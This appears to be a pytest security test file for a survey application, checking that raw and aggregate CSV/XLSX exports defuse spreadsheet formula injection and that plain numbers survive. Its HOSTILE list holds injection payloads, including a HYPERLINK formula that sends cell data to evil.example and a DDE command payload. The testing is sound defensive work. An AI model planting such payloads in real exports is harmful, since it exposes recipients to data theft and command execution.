"""Security review of Step 2: spreadsheet formula injection in exports."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from tests.assessments.conftest import answer
from tests.conftest import login

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1"]


def _hostile_survey(survey, db):
    neighbourhood = survey.group.neighbourhoods[0]
    neighbourhood.name = "=1+2"  # names come from uploaded boundary files
    db.session.commit()
    for i in range(10):
        answer(survey, {"anything_else": HOSTILE[i % len(HOSTILE)], "vict_burglary": "yes" if i % 2 else "no"},
               neighbourhood_id=neighbourhood.id)


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def _xlsx(response) -> list[tuple]:
    sheet = load_workbook(io.BytesIO(response.data)).active
    return [tuple(cell for cell in row) for row in sheet.iter_rows()]


def _starts_dangerously(value) -> bool:
    return isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_raw_exports_neutralise_spreadsheet_formulas_typed_by_respondents(client, db, survey, planner, group):
    _hostile_survey(survey, db)
    login(client, planner)
    table = _csv(client.get(f"/groups/{group.id}/surveys/{survey.id}/export/raw.csv"))
    cells = [cell for row in table[1:] for cell in row]
    assert not [c for c in cells if _starts_dangerously(c)]
    # The text is kept, only made inert.
    assert "'" + HOSTILE[0] in cells and "'-2+3" in cells
    rows = _xlsx(client.get(f"/groups/{group.id}/surveys/{survey.id}/export/raw.xlsx"))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if _starts_dangerously(c.value)]
    assert "'" + HOSTILE[0] in {c.value for c in cells}


def test_aggregate_exports_neutralise_formulas_in_names_and_labels(client, db, survey, planner, group):
    _hostile_survey(survey, db)
    login(client, planner)
    table = _csv(client.get(f"/groups/{group.id}/surveys/{survey.id}/export/aggregates.csv"))
    assert any(row[1].startswith("'=1+2") for row in table)  # the name, made inert (merged areas name all parts)
    assert not [c for row in table for c in row if _starts_dangerously(c)]
    rows = _xlsx(client.get(f"/groups/{group.id}/surveys/{survey.id}/export/aggregates.xlsx"))
    assert not [c for row in rows for c in row if c.data_type == "f"]


def test_plain_numbers_stay_numbers_in_exports(client, db, small_survey, planner, group):
    from assessments import builder

    builder.add_question(small_survey, code="temperature", type="numeric", label={"en": "Degrees"},
                         config={"integer": True, "min": -40, "max": 50})
    for value in (-5, 3):
        answer(small_survey, {"feel": "safe", "temperature": value})
    login(client, planner)
    table = _csv(client.get(f"/groups/{group.id}/surveys/{small_survey.id}/export/raw.csv"))
    column = table[0].index("temperature")
    assert sorted(row[column] for row in table[1:]) == ["-5", "3"]


def test_xlsform_with_words_where_numbers_belong_is_reported_not_a_server_error(client, planner, group):
    from tests.assessments.test_builder_and_xlsform import _workbook

    data = _workbook([["type", "name", "label"], ["select_one l", "q", "Q"], ["select_one p", "w", "W"]],
                     [["list_name", "name", "label", "sn_score", "lat", "lng"],
                      ["l", "a", "A", "high", "", ""], ["l", "b", "B", "1", "", ""],
                      ["p", "c", "C", "", "north", "nan"], ["p", "d", "D", "", "1", "2"]])
    login(client, planner)
    response = client.post(f"/groups/{group.id}/surveys/import", data={"file": (io.BytesIO(data), "form.xlsx")},
                           content_type="multipart/form-data")
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert "“high” in the column sn_score is not a number" in page
    assert "“north” in the column lat is not a number" in page and "“nan” in the column lng" in page
